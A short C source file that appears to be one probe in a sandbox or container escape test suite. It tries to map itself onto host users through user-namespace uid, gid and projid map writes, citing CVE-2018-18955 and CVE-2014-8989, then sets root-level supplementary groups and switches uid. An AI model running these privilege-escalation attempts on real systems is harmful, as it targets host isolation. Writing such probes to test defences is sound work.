/* Maps itself to users of the host, by its own maps and by those of others (user_namespaces(7), CVE-2018-18955, CVE-2014-8989). */
#include "common/attack.h"

#include <grp.h>

static void attempt(void) {
    put("/proc/self/uid_map", "0 0 4294967295");
    put("/proc/1/uid_map", "0 0 4294967295");
    put("/proc/self/gid_map", "0 0 4294967295");
    put("/proc/1/gid_map", "0 0 4294967295");
    put("/proc/self/projid_map", "0 0 4294967295");
    put("/proc/1/setgroups", "allow");
    int child = fork();
    if (child == 0) {
        TRY(unshare(CLONE_NEWUSER));
        sleep(1);
        _exit(0);
    }
    char path[64];
    usleep(100000);
    snprintf(path, sizeof path, "/proc/%d/uid_map", child);
    put(path, "0 0 65536\n100000 4294000000 65536");
    gid_t groups[] = {0, 4, 5, 6, 42, 999, 100000};
    TRY(setgroups(7, groups));
    TRY(setresuid(100000, 100000, 100000));
    show("/proc/self/uid_map");
    waitpid(child, NULL, 0);
}
